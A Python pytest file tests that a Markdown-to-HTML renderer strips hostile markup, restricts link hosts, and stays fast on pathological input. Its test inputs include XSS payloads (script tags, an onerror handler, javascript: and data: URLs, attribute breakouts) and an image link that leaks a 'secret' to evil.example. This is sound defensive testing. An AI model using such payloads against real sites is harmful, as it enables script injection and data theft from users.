"""Markdown to HTML: what must not get through, and what must."""

import time

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from core import markup
from core.markup import render_markdown, render_plain

SIGNS = "abz é中 1.,:;!?'()/%€$-#*_<&>[]|\\`=+~\"\n\t\r\u00a0\x00"
WORDS = st.text(st.sampled_from(SIGNS), max_size=12)


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "![x](https://evil.example/leak?q=secret)",
        "[x](javascript:alert(1))",
        "[x](data:text/html,<script>alert(1)</script>)",
        "<a href='https://a.example' onclick='x()'>a</a>",
        "[x](//evil.example)",
        '[x](https://a.example" onmouseover="x)',
    ],
)
def test_render_markdown_when_hostile_makes_no_active_markup(text: str) -> None:
    html = render_markdown(text)
    for bad in ("<script", "<img", "<a href='", "onerror=alert(1)>", 'javascript:alert(1)"'):
        assert bad not in html
    assert 'href="//' not in html
    assert 'href="data:' not in html


def test_render_markdown_when_a_host_is_not_allowed_keeps_the_words_only() -> None:
    text = "See [our page](https://good.example/a) or [this](https://evil.example/b)."
    html = render_markdown(text, link_hosts={"good.example"})
    assert 'href="https://good.example/a"' in html
    assert "evil.example" not in html
    assert "this" in html


def test_render_markdown_keeps_tables_and_lists() -> None:
    html = render_markdown("| a | b |\n|---|---|\n| 1 | 2 |\n\n- one\n- two")
    assert "<table>" in html
    assert html.count("<li>") == 2


def test_render_markdown_makes_links_of_whole_addresses_alone() -> None:
    html = render_markdown("See https://shop.example/a_b?x=1&y=2. Sure.it works, me@shop.example!")
    assert html.count("<a ") == 1
    assert 'href="https://shop.example/a_b?x=1&amp;y=2"' in html
    assert "<a" not in render_markdown(
        "ftp://a.example/b, mailto:a@b.c, //a.example, javascript://b"
    )
    elsewhere = render_markdown("https://evil.example/b", link_hosts={"good.example"})
    assert "href=" not in elsewhere


@pytest.mark.parametrize("text", ["://" * 5_000, "mailto:a@b.c\n" * 2_000, "//a.b " * 2_000])
def test_render_markdown_of_what_might_be_addresses_takes_little_time(text: str) -> None:
    started = time.perf_counter()
    render_markdown(text)
    assert time.perf_counter() - started < 0.5


def test_render_plain_escapes_and_keeps_line_breaks() -> None:
    assert render_plain("a <b>\nc") == "<p>a &lt;b&gt;<br>c</p>"


@given(WORDS)
@example("Hello, you're right (5 % off).\nIt costs $5 - or 4,50 €!")
@example("a  b\nc")
@example("a \n\n ")
@example("a\n1. b")
def test_render_markdown_of_mere_words_is_what_the_parser_makes_of_them(text: str) -> None:
    assert render_markdown(text) == markup._render(text, link_hosts=None)


def test_render_markdown_of_mere_words_is_fast(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delattr(markup, "_parser")
    assert render_markdown("Your parcel left (today, 5 %).\nThanks!") == (
        "<p>Your parcel left (today, 5 %).<br>\nThanks!</p>\n"
    )
